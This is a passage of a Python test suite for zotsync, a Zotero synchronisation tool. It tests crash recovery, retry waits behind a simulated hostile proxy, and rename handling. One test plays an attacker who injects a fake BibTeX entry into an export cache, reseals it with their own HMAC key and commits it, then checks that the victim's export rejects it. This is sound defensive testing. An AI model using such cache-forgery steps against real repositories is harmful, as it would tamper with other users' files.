    command = [sys.executable, "-m", "zotsync", "sync", "--json"]
    killed = 0
    for n in range(1, 8):
        work = runs / f"run-{n}"
        shutil.copytree(pristine, work)
        first = subprocess.run(
            command, cwd=work, env={**env, "ZOTSYNC_KILL_AT_WRITE": str(n)}, capture_output=True
        )
        killed += first.returncode == -9
        after = subprocess.run(command, cwd=work, env=env, capture_output=True, text=True)
        assert after.returncode == 0, (n, after.stdout, after.stderr)
        assert all(r["conflicts"] == [] for r in json.loads(after.stdout)), n
        again = subprocess.run(command, cwd=work, env=env, capture_output=True, text=True)
        assert all(r["changes"] == [] for r in json.loads(again.stdout)), n
        assert sections_holding(work, NER) == expected, n
    if teammate == "moves a collection":
        assert path_of(library(sandbox), fusion) == (ROOT, "Datasets", "Fusion")
    assert killed >= 3  # the kills fell inside the sync's own writes


def test_waits_and_retries_are_told(sandbox) -> None:  # type: ignore[no-untyped-def]
    from conftest import KEY
    from hostile import Answer, HostileProxy
    from zotsync.adapters.zotero_http import ZoteroLibrary

    proxy = HostileProxy(sandbox.url)
    busy = [Answer(503, {"Retry-After": "2"}, b"busy"), Answer(503, {}, b"busy")]
    proxy.rules.append(lambda m, p, h: busy.pop(0) if busy else None)
    told: list[str] = []
    slept: list[float] = []
    library = ZoteroLibrary(proxy.url, 4242, KEY, sleep=slept.append, notify=told.append)
    try:
        assert library.collections() == []
    finally:
        library.close()
        proxy.stop()
    assert slept == [2.0, 0.5]
    assert told == [
        "waiting 2 s (answer 503, Retry-After: 2), then retry 1 of 5",
        "waiting 0.5 s (answer 503), then retry 2 of 5",
    ]


def test_all_the_waits_of_a_run_together_are_bounded(sandbox) -> None:  # type: ignore[no-untyped-def]
    from conftest import KEY
    from hostile import Answer, HostileProxy
    from zotsync.adapters.zotero_http import MAX_TOTAL_WAIT, RemoteError, ZoteroLibrary

    proxy = HostileProxy(sandbox.url)  # 429 with a minute's wait, for ever
    proxy.rules.append(lambda m, p, h: Answer(429, {"Retry-After": "60"}, b"slow down"))
    slept: list[float] = []
    library = ZoteroLibrary(proxy.url, 4242, KEY, sleep=slept.append)
    try:
        with pytest.raises(RemoteError, match=r"rate-limited|kept zotsync waiting"):
            library.collections()
        with pytest.raises(RemoteError, match="kept zotsync waiting"):  # the budget is spent
            library.collections()
    finally:
        library.close()
        proxy.stop()
    assert sum(slept) <= MAX_TOTAL_WAIT


def test_a_collection_renamed_to_a_section_the_list_has_is_put_back_with_a_word(  # type: ignore[no-untyped-def]
    group_project: Path, sandbox, http
) -> None:
    from test_sync import library, path_of, sync

    sync()
    fusion = collection_of(http, ROOT, "Research Areas", "Multimodal Fusion")
    edit_collection(http, fusion, name="Representation Learning")  # its sibling's name
    result = run("sync", "--list", LIST)
    assert result.exit_code == 0, result.output
    assert "refused   collection 'Research Areas / Multimodal Fusion' was renamed" in result.stdout
    assert "which the list has already; it is put back" in result.stdout
    assert path_of(library(sandbox), fusion) == (ROOT, "Research Areas", "Multimodal Fusion")


def test_cache_files_committed_in_a_pull_request_are_not_taken_for_zotsyncs(
    tmp_path: Path,
) -> None:
    """An attacker runs zotsync on their own machine, edits the export cache it wrote (BibTeX
    blocks joined into every .bib as they are), seals it again with their own key and
    force-adds it to a commit: the victim's export does not use it (caches are sealed per
    user), so nothing of it reaches the .bib."""
    import hashlib
    import hmac

    folder = f"entries/{LIST}"
    attacker = copy_project(tmp_path / "attacker")
    home = {**os.environ, "XDG_CACHE_HOME": str(tmp_path / "attacker-cache")}
    made = subprocess.run(
        [sys.executable, "-m", "zotsync", "export", "--list", LIST, "-o", "x.bib"],
        cwd=attacker,
        env=home,
        capture_output=True,
        text=True,
    )
    assert made.returncode == 0, made.stderr
    key = bytes.fromhex((tmp_path / "attacker-cache" / "zotsync" / "cache-key").read_text())
    cache_file = attacker / folder / ".zotsync-cache" / "export-bibtex.json"
    _, _, data = cache_file.read_bytes().partition(b"\n")
    evil = data.replace(b"@inproceedings{", b"@misc{evil, note = {INJECTED}}\\n@inproceedings{")
    assert evil != data
    forged = hmac.new(key, evil, hashlib.sha256).hexdigest().encode() + b"\n" + evil
    clone = pull_request(tmp_path, {f"{folder}/.zotsync-cache/export-bibtex.json": forged})
    done = in_clone(clone, "export", "--list", LIST, "-o", "list.bib")
    assert done.returncode == 0, done.stderr
    bib = (clone / "list.bib").read_text()
    assert "INJECTED" not in bib and "@misc{evil" not in bib
    assert "{LargeScaleChinese2021," in bib  # read from the YAML itself
